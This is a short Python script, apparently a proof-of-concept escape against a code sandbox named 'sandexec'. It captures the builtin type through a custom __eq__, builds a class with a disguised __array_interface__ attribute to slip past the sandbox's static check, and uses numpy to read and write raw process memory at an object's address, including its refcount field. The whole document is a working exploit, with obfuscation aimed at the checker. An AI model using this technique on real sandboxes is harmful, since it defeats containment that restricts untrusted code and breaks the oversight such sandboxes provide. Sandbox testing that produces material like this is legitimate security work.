# source: sandexec README, "The static check", ("type() with three arguments (or type(x)(a, b, c)) ... make classes whose attributes are decided at run time: refused"; type(x) "may be compared (==)"); Python data model: type(int) == box calls box.__eq__(type); numpy's __array_interface__ protocol (data pointer taken as given)
# family: class machinery: type(x) compared with == hands `type` to the script's __eq__ -> three-argument type() with run-time dunder names -> __array_interface__ over any address
# goal: reads and writes the process's memory at an address taken from repr()
import numpy as np


class Box:
    def __init__(self):
        self.got = None

    def __eq__(self, other):
        self.got = other
        return True


box = Box()
same = type(int) == box
T = box.got
print("got:", T)


class Target:
    pass


t = Target()
addr = int(repr(t).split(" at ")[1][:-1], 16)
us = chr(95) * 2
iface = {"data": (addr, False), "shape": (48,), "typestr": "|u1", "version": 3}
View = T("View", (), {us + "array" + "_interface" + us: iface})
mem = np.asarray(View())
print("memory at", hex(addr), ":", mem.tobytes().hex())
mem[0] = mem[0] + 10
print("refcount field written through the view:", mem[0])
